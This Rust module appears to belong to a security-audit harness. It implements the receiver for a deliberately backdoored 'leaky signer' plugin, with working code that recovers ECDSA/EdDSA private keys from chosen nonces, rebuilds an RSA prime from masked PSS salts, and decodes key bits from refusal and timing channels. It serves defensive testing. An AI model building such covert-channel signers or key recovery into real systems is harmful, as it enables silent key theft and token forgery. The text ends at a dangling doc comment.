//! The receiving end of the leaky signer (`guest-plugins/hostile/leaky-signer`):
//! whoever gets a token (or watches a call) and tries to recover the key the
//! signer was handed.
//!
//! A signature that verifies can still carry the key. ECDSA and EdDSA let
//! the signer choose the nonce, PSS the salt, and any signer can choose
//! whether, and how fast, it answers. The leaky signer picks each choice
//! from a secret it shares with the receiver ([`LEAKY_SIGNER_ATTACKER_SECRET`]),
//! so to everyone else its tokens look like any valid token; this module is
//! the receiver, and shows that it really gets the key back:
//!
//! | channel | what the receiver recovers | from |
//! |---|---|---|
//! | ECDSA chosen nonce | the private scalar `d` ([`recover_ecdsa_key`]) | one token and the public key |
//! | EdDSA chosen nonce | the signing scalar `a` ([`recover_eddsa_scalar`]); enough to sign anything | one token and the public key |
//! | PSS salt | a chunk of the prime `p` per token ([`recover_pss_salt`], [`pss_leaked_chunk`]); all chunks factor `n` ([`recover_rsa_prime`]) | one token per chunk (2048-bit key: 4 for PS256, 3 for PS384, 2 for PS512) and the public key |
//! | refusing or signing | one key bit per call ([`recover_bits_from_outcomes`]) | which calls failed |
//! | latency | one key bit per call ([`recover_bits_from_timings`]) | how long calls took |
//!
//! Each receiver also runs against the canonical signature
//! (`tollgate_jwt_canonical`) in the tests below and recovers nothing from
//! it: fixing one signature per (algorithm, key, input) closes the first
//! three channels, and the last two are what the host's other limits
//! (uniform errors, call timing) have to bound. [`binary_channel_capacity`]
//! turns a decoder's error count into bits per call, for the audit's report.
//!
//! The `*_signature` functions compute the leaky signer's signatures
//! natively, with the same derivations as the guest, so the audit and the
//! tests have a reference that needs no WebAssembly.
//!
//! Trust: this is attacker code run by the audit, never by the app. Tokens
//! and keys are the audit's own; functions return `None` rather than panic
//! on anything malformed.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use curve25519_dalek::edwards::{CompressedEdwardsY, EdwardsPoint};
use curve25519_dalek::scalar::Scalar as EdScalar;
use ed25519_dalek::hazmat::{ExpandedSecretKey, raw_sign};
use ed25519_dalek::{SigningKey as EdSigningKey, VerifyingKey as EdVerifyingKey};
use hmac::{Hmac, Mac};
use jsonwebtoken::Algorithm;
use p256::elliptic_curve::ff::PrimeField;
use p256::elliptic_curve::group::{Curve as _, Group as _};
use p256::elliptic_curve::Field;
use p256::elliptic_curve::ops::Reduce;
use p256::elliptic_curve::pkcs8::{AssociatedOid, DecodePrivateKey, DecodePublicKey};
use p256::elliptic_curve::point::AffineCoordinates;
use p256::elliptic_curve::scalar::IsHigh;
use p256::elliptic_curve::sec1::{FromEncodedPoint, ModulusSize, ToEncodedPoint};
use p256::elliptic_curve::{AffinePoint, CurveArithmetic, FieldBytes, FieldBytesSize, PrimeCurve, PublicKey, SecretKey};
use rsa::pkcs1::{DecodeRsaPrivateKey, DecodeRsaPublicKey};
use rsa::rand_core::{CryptoRng, RngCore};
use rsa::signature::{RandomizedSigner, SignatureEncoding};
use rsa::traits::{PrivateKeyParts, PublicKeyParts};
use rsa::{BigUint, RsaPrivateKey, RsaPublicKey};
use sha2::digest::Digest;
use sha2::{Sha256, Sha384, Sha512};

/// The secret the leaky signer shares with its receiver. Public on
/// purpose: the audit plays the receiver. Keep it byte-identical to
/// `ATTACKER_SECRET` in `guest-plugins/hostile/leaky-signer/src/lib.rs`;
/// changing one breaks every recovery (the tests here and the audit's).
pub const LEAKY_SIGNER_ATTACKER_SECRET: &[u8] = b"tollgate leaky-signer attacker secret v1";

/// Domain of the Ed25519 nonce prefix (`prefix'` in RFC 8032's
/// `r = SHA-512(prefix || M)`), derived from the shared secret instead of
/// the key. Same string in the guest.
pub const EDDSA_PREFIX_DOMAIN: &[u8] = b"leaky-signer ed25519 nonce prefix";

/// Domain of the PSS salt's mask (the leaked chunk XOR this HMAC), so the
/// salt looks uniformly random to anyone without the shared secret. Same
/// string in the guest.
pub const PSS_MASK_DOMAIN: &[u8] = b"leaky-signer pss salt mask";

/// Domain of the choice of which chunk of `p` a PSS token carries. Same
/// string in the guest.
pub const PSS_CHUNK_DOMAIN: &[u8] = b"leaky-signer pss chunk index";

/// The leaky signer's default busy-wait when a key bit is 1 (claim
/// `spin_ms` absent): long enough to stand above a call's jitter, short
/// enough that a 256-bit sweep stays within the audit's time.
pub const DEFAULT_SPIN_MS: u64 = 30;

type HmacSha256 = Hmac<Sha256>;
type HmacSha384 = Hmac<Sha384>;
type HmacSha512 = Hmac<Sha512>;

// ---------------------------------------------------------------------------
// Derivations shared with the guest.

/// HMAC keyed with the shared secret: how every attacker choice is made.
fn attacker_mac<M: Mac + hmac::digest::KeyInit>(parts: &[&[u8]]) -> Vec<u8> {
    let mut mac = <M as hmac::digest::KeyInit>::new_from_slice(LEAKY_SIGNER_ATTACKER_SECRET)
        .unwrap_or_else(|_| unreachable!("HMAC takes a key of any length"));
    for part in parts {
        mac.update(part);
    }
    mac.finalize().into_bytes().to_vec()
}

/// The ECDSA nonce `k` before reduction mod `n`, and the message digest
/// `z`: HMAC-SHA-256 / SHA-256 for ES256, HMAC-SHA-384 / SHA-384 for ES384.
fn ecdsa_nonce_and_digest(alg: Algorithm, message: &[u8]) -> Option<(Vec<u8>, Vec<u8>)> {
    match alg {
        Algorithm::ES256 => Some((attacker_mac::<HmacSha256>(&[message]), Sha256::digest(message).to_vec())),
        Algorithm::ES384 => Some((attacker_mac::<HmacSha384>(&[message]), Sha384::digest(message).to_vec())),
        _ => None,
    }
}

/// `prefix'`: the second half of the Ed25519 expanded key, replaced.
fn eddsa_attacker_prefix() -> [u8; 32] {
    let mut prefix = [0u8; 32];
    prefix.copy_from_slice(&attacker_mac::<HmacSha512>(&[EDDSA_PREFIX_DOMAIN])[..32]);
    prefix
}

/// The PSS digest length (= salt length) for a PS* algorithm.
fn pss_hash_len(alg: Algorithm) -> Option<usize> {
    match alg {
        Algorithm::PS256 => Some(32),
        Algorithm::PS384 => Some(48),
        Algorithm::PS512 => Some(64),
        _ => None,
    }
}

/// Bytes of one prime of an RSA key with a modulus of `modulus_bits`.
fn prime_len(modulus_bits: usize) -> usize {
    modulus_bits.div_ceil(2).div_ceil(8)
}

/// How many PSS tokens of `alg` carry a whole prime: one salt-sized chunk
/// of `p` each.
pub fn pss_chunk_count(alg: Algorithm, modulus_bits: usize) -> Option<usize> {
    Some(prime_len(modulus_bits).div_ceil(pss_hash_len(alg)?))
}

/// Which chunk of `p` the PSS token for `message` carries. Chosen from the
/// message (so the receiver knows it and the signer needs no state);
/// varying the message covers every chunk.
pub fn pss_chunk_index(alg: Algorithm, modulus_bits: usize, message: &[u8]) -> Option<usize> {
    let count = pss_chunk_count(alg, modulus_bits)?;
    let mac = attacker_mac::<HmacSha256>(&[PSS_CHUNK_DOMAIN, message]);
    let mut head = [0u8; 8];
    head.copy_from_slice(&mac[..8]);
    // The count is at most a few dozen: the modulo bias is negligible.
    Some((u64::from_be_bytes(head) % count as u64) as usize)
}

/// The mask XORed over the leaked chunk: the salt's first `len` bytes.
fn pss_mask(message: &[u8], len: usize) -> Vec<u8> {
    let mut mask = attacker_mac::<HmacSha512>(&[PSS_MASK_DOMAIN, message]);
    mask.truncate(len);
    mask
}

/// The salt the leaky signer uses: chunk [`pss_chunk_index`] of the first
/// prime (big-endian, left-padded to half the modulus, the last chunk
/// right-padded with zeros), XOR [`pss_mask`].
fn pss_leaky_salt(alg: Algorithm, key: &RsaPrivateKey, message: &[u8]) -> Option<Vec<u8>> {
    let hash_len = pss_hash_len(alg)?;
    let bits = key.n().bits();
    let index = pss_chunk_index(alg, bits, message)?;
    let prime = padded_be(key.primes().first()?, prime_len(bits))?;
    let mut chunk: Vec<u8> = prime.iter().skip(index * hash_len).take(hash_len).copied().collect();
    chunk.resize(hash_len, 0);
    Some(chunk.iter().zip(pss_mask(message, hash_len)).map(|(c, m)| c ^ m).collect())
}

/// `value` big-endian, left-padded with zeros to `len` bytes.
fn padded_be(value: &BigUint, len: usize) -> Option<Vec<u8>> {
    let bytes = value.to_bytes_be();
    let pad = len.checked_sub(bytes.len())?;
    let mut out = vec![0u8; pad];
    out.extend_from_slice(&bytes);
    Some(out)
}

/// Bit `n` of `key`, most significant bit of each byte first:
/// `(key[n / 8] >> (7 - n % 8)) & 1`. `None` past the end.
pub fn key_bit(key: &[u8], n: usize) -> Option<bool> {
    key.get(n / 8).map(|byte| (byte >> (7 - n % 8)) & 1 == 1)
}

// ---------------------------------------------------------------------------
// Tokens and keys.

/// The JWS signing input jsonwebtoken produces (and the host expects):
/// `base64url(header JSON) "." base64url(claims text as given)`.
pub fn signing_input(header: &jsonwebtoken::Header, claims_json: &str) -> Option<String> {
    let header = serde_json::to_vec(header).ok()?;
    Some(format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims_json)))
}

/// A compact token's signing input and raw signature.
fn split_token(token: &str) -> Option<(&str, Vec<u8>)> {
    let (message, signature) = token.rsplit_once('.')?;
    if message.matches('.').count() != 1 {
        return None;
    }
    Some((message, URL_SAFE_NO_PAD.decode(signature).ok()?))
}

fn is_pem(key: &[u8]) -> bool {
    key.trim_ascii_start().starts_with(b"-----BEGIN")
}

/// An EC private key from PEM: PKCS#8, or SEC1 (`EC PRIVATE KEY`).
fn ec_secret<C>(pem: &[u8]) -> Option<SecretKey<C>>
where
    C: PrimeCurve + CurveArithmetic + AssociatedOid,
    AffinePoint<C>: FromEncodedPoint<C> + ToEncodedPoint<C>,
    FieldBytesSize<C>: ModulusSize,
{
    let text = std::str::from_utf8(pem).ok()?;
    SecretKey::<C>::from_pkcs8_pem(text).or_else(|_| SecretKey::<C>::from_sec1_pem(text)).ok()
}

/// An EC public key: SEC1 point bytes, or an SPKI PEM.
fn ec_public<C>(key: &[u8]) -> Option<PublicKey<C>>
where
    C: PrimeCurve + CurveArithmetic + AssociatedOid,
    AffinePoint<C>: FromEncodedPoint<C> + ToEncodedPoint<C>,
    FieldBytesSize<C>: ModulusSize,
{
    if is_pem(key) {
        PublicKey::<C>::from_public_key_pem(std::str::from_utf8(key).ok()?).ok()
    } else {
        PublicKey::<C>::from_sec1_bytes(key).ok()
    }
}

/// An Ed25519 public key: 32 raw bytes, or an SPKI PEM.
fn ed_public(key: &[u8]) -> Option<EdVerifyingKey> {
    if is_pem(key) {
        EdVerifyingKey::from_public_key_pem(std::str::from_utf8(key).ok()?).ok()
    } else {
        EdVerifyingKey::from_bytes(key.try_into().ok()?).ok()
    }
}

/// An RSA private key from PEM: PKCS#1 or PKCS#8.
fn rsa_private(pem: &[u8]) -> Option<RsaPrivateKey> {
    let text = std::str::from_utf8(pem).ok()?;
    RsaPrivateKey::from_pkcs1_pem(text).or_else(|_| RsaPrivateKey::from_pkcs8_pem(text)).ok()
}

/// An RSA public key from PEM: SPKI or PKCS#1.
fn rsa_public(pem: &[u8]) -> Option<RsaPublicKey> {
    let text = std::str::from_utf8(pem).ok()?;
    RsaPublicKey::from_public_key_pem(text).or_else(|_| RsaPublicKey::from_pkcs1_pem(text)).ok()
}

/// `bytes` as the curve's field-sized big-endian array, if that size.
fn field_bytes<C: CurveArithmetic>(bytes: &[u8]) -> Option<FieldBytes<C>> {
    let mut out = FieldBytes::<C>::default();
    if bytes.len() != out.len() {
        return None;
    }
    out.copy_from_slice(bytes);
    Some(out)
}

/// A raw ECDSA signature's `(r, s)` as scalars: two field-sized halves,
/// each below `n`.
fn ecdsa_scalars<C: CurveArithmetic>(signature: &[u8]) -> Option<(C::Scalar, C::Scalar)> {
    let (r, s) = signature.split_at_checked(FieldBytes::<C>::default().len())?;
    Some((canonical::<C>(r)?, canonical::<C>(s)?))
}

/// A field-sized scalar from big-endian bytes, reduced mod `n`.
fn reduce<C: CurveArithmetic>(bytes: &[u8]) -> Option<C::Scalar> {
    Some(<C::Scalar as Reduce<C::Uint>>::reduce_bytes(&field_bytes::<C>(bytes)?))
}

/// A field-sized scalar from canonical big-endian bytes (`< n`).
fn canonical<C: CurveArithmetic>(bytes: &[u8]) -> Option<C::Scalar> {
    Option::from(C::Scalar::from_repr(field_bytes::<C>(bytes)?))
}

// ---------------------------------------------------------------------------
// ECDSA: chosen nonce, high S.

/// `(r, s)` with the given nonce, `s` then normalised to the lower half so
/// the signature looks like the canonical (RFC 6979, low-S) one.
fn ecdsa_sign_with_nonce<C: PrimeCurve + CurveArithmetic>(d: C::Scalar, k_bytes: &[u8], z_bytes: &[u8]) -> Option<Vec<u8>> {
    let k = reduce::<C>(k_bytes)?;
    let z = reduce::<C>(z_bytes)?;
    let k_inv: C::Scalar = Option::from(Field::invert(&k))?;
    let big_r = (C::ProjectivePoint::generator() * k).to_affine();
    let r = reduce::<C>(&big_r.x())?;
    let mut s = k_inv * (z + r * d);
    if bool::from(s.is_zero()) || bool::from(r.is_zero()) {
        return None;
    }
    if bool::from(s.is_high()) {
        s = -s;
    }
    Some([r.to_repr().to_vec(), s.to_repr().to_vec()].concat())
}

/// `d = (s·k − z)·r⁻¹`, for `s` and `n − s`; the one whose `d·G` is the
/// public key.
fn ecdsa_recover<C>(public: &PublicKey<C>, signature: &[u8], k_bytes: &[u8], z_bytes: &[u8]) -> Option<Vec<u8>>
where
    C: PrimeCurve + CurveArithmetic,
{
    let (r, s) = ecdsa_scalars::<C>(signature)?;
    let k = reduce::<C>(k_bytes)?;
    let z = reduce::<C>(z_bytes)?;
    let r_inv: C::Scalar = Option::from(Field::invert(&r))?;
    [s, -s].into_iter().find_map(|s| {
        let d = (s * k - z) * r_inv;
        let candidate = (C::ProjectivePoint::generator() * d).to_affine();
        (candidate == *public.as_affine()).then(|| d.to_repr().to_vec())
    })
}

/// The leaky signer's `chosen-nonce` signature of `message` (the JWS
/// signing input), raw: for ES256/ES384 the nonce is HMAC over `message`
/// keyed with [`LEAKY_SIGNER_ATTACKER_SECRET`] (SHA-256 / SHA-384),
/// reduced mod `n`, and `s` is made low; for EdDSA the nonce is
/// `SHA-512(prefix' || message)` with `prefix'` from the same secret.
/// `private_key` is the PEM the host hands a signer. `None` for another
/// algorithm or a key that does not parse.
pub fn chosen_nonce_signature(alg: Algorithm, private_key: &[u8], message: &[u8]) -> Option<Vec<u8>> {
    match alg {
        Algorithm::ES256 => {
            let (k, z) = ecdsa_nonce_and_digest(alg, message)?;
            ecdsa_sign_with_nonce::<p256::NistP256>(*ec_secret::<p256::NistP256>(private_key)?.to_nonzero_scalar(), &k, &z)
        }
        Algorithm::ES384 => {
            let (k, z) = ecdsa_nonce_and_digest(alg, message)?;
            ecdsa_sign_with_nonce::<p384::NistP384>(*ec_secret::<p384::NistP384>(private_key)?.to_nonzero_scalar(), &k, &z)
        }
        Algorithm::EdDSA => {
            let text = std::str::from_utf8(private_key).ok()?;
            let signing = EdSigningKey::from_pkcs8_pem(text).ok()?;
            let mut expanded = ExpandedSecretKey::from(&signing.to_bytes());
            expanded.hash_prefix = eddsa_attacker_prefix();
            Some(raw_sign::<Sha512>(&expanded, message, &signing.verifying_key()).to_bytes().to_vec())
        }
        _ => None,
    }
}

/// The leaky signer's `high-s` signature: the canonical ECDSA signature
/// (`canonical`, raw `r || s` with `s <= n/2`) with `s` replaced by
/// `n - s`. It verifies; only the canonical check refuses it.
pub fn high_s_signature(alg: Algorithm, canonical_signature: &[u8]) -> Option<Vec<u8>> {
    fn flip<C: PrimeCurve + CurveArithmetic>(signature: &[u8]) -> Option<Vec<u8>> {
        let (r, s) = ecdsa_scalars::<C>(signature)?;
        Some([r.to_repr().to_vec(), (-s).to_repr().to_vec()].concat())
    }
    match alg {
        Algorithm::ES256 => flip::<p256::NistP256>(canonical_signature),
        Algorithm::ES384 => flip::<p384::NistP384>(canonical_signature),
        _ => None,
    }
}

/// Whether an ES256/ES384 token's `s` is in the upper half (`s > n/2`):
/// never so for a canonical signature. `None` if it is not one.
pub fn signature_is_high_s(alg: Algorithm, token: &str) -> Option<bool> {
    fn high<C: PrimeCurve + CurveArithmetic>(signature: &[u8]) -> Option<bool> {
        ecdsa_scalars::<C>(signature).map(|(_, s)| bool::from(s.is_high()))
    }
    let (_, signature) = split_token(token)?;
    match alg {
        Algorithm::ES256 => high::<p256::NistP256>(&signature),
        Algorithm::ES384 => high::<p384::NistP384>(&signature),
        _ => None,
    }
}

/// The receiver of `chosen-nonce` for ES256/ES384: recomputes the nonce
/// from [`LEAKY_SIGNER_ATTACKER_SECRET`] and the token's signing input,
/// solves for the private scalar, and returns it (big-endian, field-sized)
/// only if it matches `public_key` (SEC1 point bytes or an SPKI PEM).
pub fn recover_ecdsa_key(alg: Algorithm, token: &str, public_key: &[u8]) -> Option<Vec<u8>> {
    let (message, signature) = split_token(token)?;
    let (k, z) = ecdsa_nonce_and_digest(alg, message.as_bytes())?;
    match alg {
        Algorithm::ES256 => ecdsa_recover(&ec_public::<p256::NistP256>(public_key)?, &signature, &k, &z),
        Algorithm::ES384 => ecdsa_recover(&ec_public::<p384::NistP384>(public_key)?, &signature, &k, &z),
        _ => None,
    }
}

/// The private scalar of an ES256/ES384 PEM key, big-endian: what
/// [`recover_ecdsa_key`] returns when it succeeds.
pub fn ecdsa_private_scalar(alg: Algorithm, private_key: &[u8]) -> Option<Vec<u8>> {
    match alg {
        Algorithm::ES256 => Some(ec_secret::<p256::NistP256>(private_key)?.to_bytes().to_vec()),
        Algorithm::ES384 => Some(ec_secret::<p384::NistP384>(private_key)?.to_bytes().to_vec()),
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// EdDSA: chosen nonce.

/// The receiver of `chosen-nonce` for EdDSA: `r = SHA-512(prefix' || M)`
/// is known to it, so `a = (S − r)·H(R || A || M)⁻¹ mod ℓ`. Returns `a`
/// (little-endian) only if `a·B` is `public_key` (32 bytes or an SPKI
/// PEM). With `a`, anyone can sign anything under the key.
pub fn recover_eddsa_scalar(token: &str, public_key: &[u8]) -> Option<[u8; 32]> {
    let (message, signature) = split_token(token)?;
    let public = ed_public(public_key)?;
    let signature: [u8; 64] = signature.try_into().ok()?;
    let (big_r, big_s) = signature.split_at(32);
    let s: EdScalar = Option::from(EdScalar::from_canonical_bytes(big_s.try_into().ok()?))?;
    let prefix = eddsa_attacker_prefix();
    let r = EdScalar::from_hash(Sha512::new().chain_update(prefix).chain_update(message.as_bytes()));
    let h = EdScalar::from_hash(
        Sha512::new().chain_update(big_r).chain_update(public.as_bytes()).chain_update(message.as_bytes()),
    );
    let a = (s - r) * h.invert();
    let expected = CompressedEdwardsY(*public.as_bytes());
    (EdwardsPoint::mul_base(&a).compress() == expected).then(|| a.to_bytes())
}

/// The signing scalar `a` of an Ed25519 PEM key (little-endian, reduced):
/// what [`recover_eddsa_scalar`] returns when it succeeds.
pub fn eddsa_private_scalar(private_key: &[u8]) -> Option<[u8; 32]> {
    let signing = EdSigningKey::from_pkcs8_pem(std::str::from_utf8(private_key).ok()?).ok()?;
    Some(ExpandedSecretKey::from(&signing.to_bytes()).scalar.to_bytes())
}

// ---------------------------------------------------------------------------
// PSS: the salt.

/// A random-number source that hands out `prefix` first, then a seeded
/// ChaCha20 stream ([`seeded_rng`]). `rsa`'s PSS signer draws the salt in its first call, so
/// the salt is `prefix`; the stream feeds the blinding, which does not
/// change the signature.
struct PrefixedRng {
    prefix: Vec<u8>,
    stream: rand_chacha::ChaCha20Rng,
}

impl RngCore for PrefixedRng {
    fn next_u32(&mut self) -> u32 {
        let mut bytes = [0u8; 4];
        self.fill_bytes(&mut bytes);
        u32::from_le_bytes(bytes)
    }

    fn next_u64(&mut self) -> u64 {
        let mut bytes = [0u8; 8];
        self.fill_bytes(&mut bytes);
        u64::from_le_bytes(bytes)
    }

    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let from_prefix = dest.len().min(self.prefix.len());
        let rest: Vec<u8> = self.prefix.drain(..from_prefix).collect();
        dest[..from_prefix].copy_from_slice(&rest);
        self.stream.fill_bytes(&mut dest[from_prefix..]);
    }

    fn try_fill_bytes(&mut self, dest: &mut [u8]) -> Result<(), rsa::rand_core::Error> {
        self.fill_bytes(dest);
        Ok(())
    }
}

// The salt is what the attack means to choose; the stream after it is
// ChaCha20 from a secret seed, good enough for RSA blinding.
impl CryptoRng for PrefixedRng {}

/// A deterministic stream from `seed` (ChaCha20 keyed with its SHA-256):
/// the blinding after a chosen salt (which does not change the signature)
/// and the tests' seeded keys.
fn seeded_rng(seed: &[u8]) -> rand_chacha::ChaCha20Rng {
    <rand_chacha::ChaCha20Rng as rand_chacha::rand_core::SeedableRng>::from_seed(Sha256::digest(seed).into())
}

/// The leaky signer's `pss-salt` signature of `message`, raw: RSASSA-PSS
/// with MGF1 of the same hash and a salt as long as the hash, the salt
/// being chunk [`pss_chunk_index`] of the key's first prime `p`, masked
/// with an HMAC of the shared secret (so it looks random to anyone else).
/// `private_key` is a PKCS#1 or PKCS#8 PEM.
pub fn pss_leaky_signature(alg: Algorithm, private_key: &[u8], message: &[u8]) -> Option<Vec<u8>> {
    let key = rsa_private(private_key)?;
    let salt = pss_leaky_salt(alg, &key, message)?;
    let mut rng = PrefixedRng { prefix: salt, stream: seeded_rng(&attacker_mac::<HmacSha512>(&[message])) };
    let signature = match alg {
        Algorithm::PS256 => rsa::pss::BlindedSigningKey::<Sha256>::new(key).try_sign_with_rng(&mut rng, message).ok()?.to_vec(),
        Algorithm::PS384 => rsa::pss::BlindedSigningKey::<Sha384>::new(key).try_sign_with_rng(&mut rng, message).ok()?.to_vec(),
        Algorithm::PS512 => rsa::pss::BlindedSigningKey::<Sha512>::new(key).try_sign_with_rng(&mut rng, message).ok()?.to_vec(),
        _ => return None,
    };
    Some(signature)
}

/// MGF1 (RFC 8017 B.2.1) with `D`.
fn mgf1<D: Digest>(seed: &[u8], len: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(len + <D as Digest>::output_size());
    let mut counter: u32 = 0;
    while out.len() < len {
        out.extend_from_slice(&D::new().chain_update(seed).chain_update(counter.to_be_bytes()).finalize());
        counter = counter.wrapping_add(1);
    }
    out.truncate(len);
    out
}

/// EMSA-PSS-VERIFY (RFC 8017 9.1.2) with a salt as long as the hash,
/// returning the salt: `em` is the encoded message of `em_bits` bits.
fn emsa_pss_salt<D: Digest>(em: &[u8], em_bits: usize, message: &[u8]) -> Option<Vec<u8>> {
    let h_len = <D as Digest>::output_size();
    let s_len = h_len;
    let em_len = em_bits.div_ceil(8);
    if em.len() != em_len || em_len < h_len + s_len + 2 || em.last() != Some(&0xbc) {
        return None;
    }
    let (masked_db, rest) = em.split_at(em_len - h_len - 1);
    let h = &rest[..h_len];
    let unused_bits = 8 * em_len - em_bits;
    let top_mask = 0xffu8.checked_shr(unused_bits as u32).unwrap_or(0);
    if masked_db.first().is_some_and(|b| b & !top_mask != 0) {
        return None;
    }
    let mut db: Vec<u8> = masked_db.iter().zip(mgf1::<D>(h, masked_db.len())).map(|(a, b)| a ^ b).collect();
    if let Some(first) = db.first_mut() {
        *first &= top_mask;
    }
    let separator = em_len - h_len - s_len - 2;
    if db[..separator].iter().any(|&b| b != 0) || db[separator] != 0x01 {
        return None;
    }
    let salt = db.split_off(separator + 1);
    let m_hash = D::digest(message);
    let expected = D::new().chain_update([0u8; 8]).chain_update(m_hash).chain_update(&salt).finalize();
    (expected[..] == *h).then_some(salt)
}

/// The salt of a PS256/384/512 token, read back with the public key
/// (SPKI or PKCS#1 PEM): the RSA public operation, then EMSA-PSS decoding
/// (unmask DB with MGF1, check the hash). Works on any valid PSS token,
/// the canonical one included; [`pss_leaked_chunk`] and
/// [`recover_rsa_prime`] say whether the salt carries the key.
pub fn recover_pss_salt(alg: Algorithm, token: &str, public_key: &[u8]) -> Option<Vec<u8>> {
    let (message, signature) = split_token(token)?;
    let public = rsa_public(public_key)?;
    let s = BigUint::from_bytes_be(&signature);
    if &s >= public.n() {
        return None;
    }
    let em_bits = public.n().bits().checked_sub(1)?;
    let em = padded_be(&s.modpow(public.e(), public.n()), em_bits.div_ceil(8))?;
    match alg {
        Algorithm::PS256 => emsa_pss_salt::<Sha256>(&em, em_bits, message.as_bytes()),
        Algorithm::PS384 => emsa_pss_salt::<Sha384>(&em, em_bits, message.as_bytes()),
        Algorithm::PS512 => emsa_pss_salt::<Sha512>(&em, em_bits, message.as_bytes()),
        _ => None,
    }
}

/// One salt-sized piece of the prime `p`, as a PSS token leaks it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PrimeChunk {
    /// Which piece: bytes `index * len ..` of `p` (big-endian, padded to
    /// half the modulus).
    pub index: usize,
    /// The piece (the last one right-padded with zeros).
    pub bytes: Vec<u8>,
}

/// The piece of `p` a leaky PSS token's `salt` carries: unmasked with the
/// shared secret, placed by [`pss_chunk_index`]. On a canonical token this
/// still returns bytes, but noise: only [`recover_rsa_prime`] (or
/// [`pss_salt_leaks_key`], with the private key) tells the two apart.
pub fn pss_leaked_chunk(alg: Algorithm, token: &str, salt: &[u8], modulus_bits: usize) -> Option<PrimeChunk> {
    let (message, _) = split_token(token)?;
    let index = pss_chunk_index(alg, modulus_bits, message.as_bytes())?;
    let mask = pss_mask(message.as_bytes(), salt.len());
    Some(PrimeChunk { index, bytes: salt.iter().zip(mask).map(|(s, m)| s ^ m).collect() })
}

/// Whether `salt` (from [`recover_pss_salt`] on `token`) is the
/// leaky signer's key-derived salt for `private_key`: the check the audit
/// can make with one token, since it holds the key.
pub fn pss_salt_leaks_key(alg: Algorithm, token: &str, salt: &[u8], private_key: &[u8]) -> bool {
    let Some((message, _)) = split_token(token) else { return false };
    rsa_private(private_key)
        .and_then(|key| pss_leaky_salt(alg, &key, message.as_bytes()))
        .is_some_and(|expected| expected == salt)
}

/// The receiver's goal: `p` reassembled from leaked chunks (any order,
/// repeats allowed), returned (big-endian) only if it divides the modulus
/// of `public_key`. With `p`, `q = n / p` and the whole private key follow.
pub fn recover_rsa_prime(alg: Algorithm, public_key: &[u8], chunks: &[PrimeChunk]) -> Option<Vec<u8>> {
    let public = rsa_public(public_key)?;
    let hash_len = pss_hash_len(alg)?;
    let bits = public.n().bits();
    let count = pss_chunk_count(alg, bits)?;
    let mut prime = vec![0u8; count * hash_len];
    let mut seen = vec![false; count];
    for chunk in chunks {
        let slot = prime.get_mut(chunk.index * hash_len..(chunk.index + 1) * hash_len)?;
        if chunk.bytes.len() != hash_len {
            return None;
        }
        slot.copy_from_slice(&chunk.bytes);
        *seen.get_mut(chunk.index)? = true;
    }
    if seen.contains(&false) {
        return None;
    }
    prime.truncate(prime_len(bits));
    let p = BigUint::from_bytes_be(&prime);
    let one = BigUint::from(1u8);
    (p > one && &p < public.n() && (public.n() % &p) == BigUint::from(0u8)).then(|| p.to_bytes_be())
}

// ---------------------------------------------------------------------------
// Outcomes and timing: one bit per call.

/// Decodes `outcome-bit`: each observation is (bit index, whether the
/// call failed); the leaky signer fails exactly when the bit is 1.
/// Majority per bit; `None` for a bit never observed or tied.
pub fn recover_bits_from_outcomes(outcomes: &[(usize, bool)], bit_count: usize) -> Vec<Option<bool>> {
    let mut votes = vec![(0usize, 0usize); bit_count];
    for &(bit, failed) in outcomes {
        if let Some((ones, zeros)) = votes.get_mut(bit) {
            if failed { *ones += 1 } else { *zeros += 1 }
        }
    }
    votes.into_iter().map(|(ones, zeros)| (ones != zeros).then_some(ones > zeros)).collect()
}

/// Decodes `timing-bit`: each observation is (bit index, the call's
/// latency); the leaky signer spins when the bit is 1. Takes each bit's
/// median latency, splits the medians in two clusters (one-dimensional
/// 2-means), and reads the slow cluster as 1. `None` for a bit never
/// observed. With no real signal the split is noise, and the error rate
/// (so [`binary_channel_capacity`]) says so.
pub fn recover_bits_from_timings(latencies: &[(usize, Duration)], bit_count: usize) -> Vec<Option<bool>> {
    let mut per_bit: Vec<Vec<f64>> = vec![Vec::new(); bit_count];
    for &(bit, latency) in latencies {
        if let Some(samples) = per_bit.get_mut(bit) {
            samples.push(latency.as_secs_f64());
        }
    }
    let medians: Vec<Option<f64>> = per_bit.into_iter().map(median).collect();
    let Some(threshold) = two_means_threshold(&medians.iter().flatten().copied().collect::<Vec<_>>()) else {
        return vec![None; bit_count];
    };
    medians.into_iter().map(|m| m.map(|m| m > threshold)).collect()
}

fn median(mut samples: Vec<f64>) -> Option<f64> {
    if samples.is_empty() {
        return None;
    }
    samples.sort_by(f64::total_cmp);
    let mid = samples.len() / 2;
    Some(if samples.len().is_multiple_of(2) { (samples[mid - 1] + samples[mid]) / 2.0 } else { samples[mid] })
}

/// Iterations of the 2-means split: it converges in a handful on one
/// dimension; the cap only bounds a pathological oscillation.
const TWO_MEANS_ITERATIONS: usize = 64;

/// The midpoint between the two cluster means of `values`.
fn two_means_threshold(values: &[f64]) -> Option<f64> {
    let lo = values.iter().copied().reduce(f64::min)?;
    let hi = values.iter().copied().reduce(f64::max)?;
    let mut threshold = (lo + hi) / 2.0;
    for _ in 0..TWO_MEANS_ITERATIONS {
        let (low, high): (Vec<f64>, Vec<f64>) = values.iter().partition(|&&v| v <= threshold);
        let (Some(low_mean), Some(high_mean)) = (mean(&low), mean(&high)) else { break };
        let next = (low_mean + high_mean) / 2.0;
        if next == threshold {
            break;
        }
        threshold = next;
    }
    Some(threshold)
}

fn mean(values: &[f64]) -> Option<f64> {
    (!values.is_empty()).then(|| values.iter().sum::<f64>() / values.len() as f64)
}

/// (errors, decoded) of guessed bits against the real `key`: bits the
/// decoder left `None`, or past the key's end, are not counted.
pub fn count_bit_errors(guessed: &[Option<bool>], key: &[u8]) -> (usize, usize) {
    guessed
        .iter()
        .enumerate()
        .filter_map(|(n, guess)| Some((*guess)? != key_bit(key, n)?))
        .fold((0, 0), |(errors, total), wrong| (errors + usize::from(wrong), total + 1))
}

/// The capacity of a binary symmetric channel with the observed error
/// rate, `1 − H(errors / total)` bits per call: 1 for a perfect decoder, 0
/// for a coin flip (and for no observations).
